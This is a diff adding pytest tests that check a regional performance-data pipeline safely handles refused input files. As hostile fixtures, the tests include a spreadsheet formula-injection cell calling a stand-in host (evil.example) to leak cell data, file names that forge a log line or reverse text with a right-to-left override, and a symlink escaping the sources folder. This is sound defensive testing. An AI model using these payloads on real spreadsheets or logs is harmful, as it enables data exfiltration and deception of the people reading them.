@@ -18,6 +18,7 @@ from orchestration import cli
 from orchestration.settings import PROJECT_ROOT, Settings
 from reports.feedback import write_packs
 from tests.conftest import BEKASI, SAMPLES, query, run_refresh
+from tests.crashes import manifest_with, run
 
 SAKIP = f"sakip/{BEKASI}/sakip_2024.xlsx"
 RB = f"rb/{BEKASI}/rb_2025.csv"
@@ -144,3 +145,94 @@ def test_a_refusal_lasts_until_a_corrected_file_loads_and_its_pack_goes(
     assert status() == {SAKIP: "corrected", RB: "corrected"}
     assert cli.main(["feedback", "--regency", BEKASI, "--no-pdf"]) == 0
     assert list((settings.feedback_dir / BEKASI).iterdir()) == []
+
+
+HOSTILE_RB = (
+    "Tahun,Kode,Perangkat Daerah,Nilai,Predikat\n"
+    '2025,,"=HYPERLINK(""http://evil.example/?q=""&A1,""klik"")",=1+1,BB\n'
+)
+FORGED = f"sakip/{BEKASI}/sakip_2026\nloaded     61  sakip: fine.csv"
+REVERSED = f"rb/{BEKASI}/rb_2019_\u202evsc.xlsx"
+
+
+@pytest.fixture(scope="module")
+def odd_refusals(tmp_path_factory):
+    """Files refused in every way a pack must still cover: a cell that is a formula, a file too
+    big to be read, a link out of the sources dir, two copies of one bad file under two names,
+    file names with a newline and a right-to-left override."""
+    root = tmp_path_factory.mktemp("odd")
+    sources = shutil.copytree(SAMPLES, root / "sources")
+    (sources / "rb" / BEKASI / "rb_2025_perbaikan.csv").write_text(HOSTILE_RB, encoding="utf-8")
+    for name in ("rb_2019.csv", "rb_2019 (salinan).csv"):
+        (sources / "rb" / BEKASI / name).write_text(HOSTILE_RB, encoding="utf-8")
+    (sources / "merit" / BEKASI / "merit_2027.csv").symlink_to(root / "elsewhere.csv")
+    (root / "elsewhere.csv").write_text("Tahun;Instansi;Nilai;Kategori\n", encoding="utf-8")
+    (sources / FORGED).write_text("Kode;Nama;Nilai\n1;Dinas X;banyak\n", encoding="utf-8")
+    (sources / REVERSED).write_text("not a workbook", encoding="utf-8")
+    settings = Settings(
+        sources_dir=sources,
+        warehouse=root / "warehouse" / "kinerja.duckdb",
+        manifest=manifest_with(
+            root / "sources.yaml",
+            {"source": "merit", "path": "merit/32.15/*.csv", "limits": {"max_file_bytes": 10}},
+        ),
+    )
+    code, summary = run("refresh", settings=settings)
+    assert code == 1, summary[-3000:]
+    code, output = run("feedback", "--no-pdf", settings=settings)
+    assert code == 0, output
+    return settings, summary
+
+
+def test_every_refused_file_gets_a_pack_the_odd_ones_too(odd_refusals):
+    settings, _ = odd_refusals
+    packs = {p.name for p in (settings.feedback_dir / BEKASI).iterdir()}
+    assert {
+        "rb-rb_2025_perbaikan.csv-perbaikan.xlsx",
+        "rb-rb_2019.csv-perbaikan.xlsx",
+        "rb-rb_2019-salinan-.csv-perbaikan.xlsx",
+        "merit-merit_2027.csv-perbaikan.xlsx",  # a link: nothing was read, the summary says so
+    } <= packs
+    too_big = openpyxl.load_workbook(
+        settings.feedback_dir / "32.15" / "merit-merit_2024.csv-perbaikan.xlsx"
+    )
+    assert too_big.sheetnames == ["Ringkasan"]
+    assert "tidak dapat dibuka sebagai tabel" in str(too_big["Ringkasan"]["A5"].value)
+
+
+def test_no_cell_of_any_pack_runs(odd_refusals):
+    settings, _ = odd_refusals
+    workbooks = list(settings.feedback_dir.rglob("*.xlsx"))
+    assert len(workbooks) >= 6
+    for path in workbooks:
+        for sheet in openpyxl.load_workbook(path).worksheets:
+            for row in sheet.iter_rows():
+                for cell in row:
+                    assert cell.data_type != "f", (path.name, sheet.title, cell.coordinate)
+    summary = openpyxl.load_workbook(
+        settings.feedback_dir / BEKASI / "rb-rb_2025_perbaikan.csv-perbaikan.xlsx"
+    )["Ringkasan"]
+    values = {cell.value: cell for row in summary.iter_rows() for cell in row if cell.value}
+    hostile = '=HYPERLINK("http://evil.example/?q="&A1,"klik")'
+    assert values[hostile].data_type == "s" and values[hostile].quotePrefix
+    assert values["=1+1"].data_type == "s" and values["=1+1"].quotePrefix
+
+
+def test_two_files_of_identical_bytes_are_two_refusals(odd_refusals):
+    settings, _ = odd_refusals
+    refused = query(
+        settings,
+        "select source_file from marts.source_status where status = 'refused' "
+        "and source_file like 'rb/32.16/rb_2019%.csv' order by 1",
+    )
+    assert refused == [(f"rb/{BEKASI}/rb_2019 (salinan).csv",), (f"rb/{BEKASI}/rb_2019.csv",)]
+
+
+def test_a_file_name_cannot_forge_a_line_or_reverse_itself(odd_refusals):
+    settings, summary = odd_refusals
+    assert "\nloaded     61  sakip: fine.csv" not in summary
+    assert "sakip_2026\\nloaded     61  sakip: fine.csv" in summary
+    assert "rb_2019_\\u202evsc.xlsx" in summary and "\u202e" not in summary
+    letters = list((settings.feedback_dir / BEKASI).glob("surat-*.html"))
+    text = "".join(p.read_text(encoding="utf-8") for p in letters)
+    assert "rb_2019_\\u202evsc.xlsx" in text and "\u202e" not in text
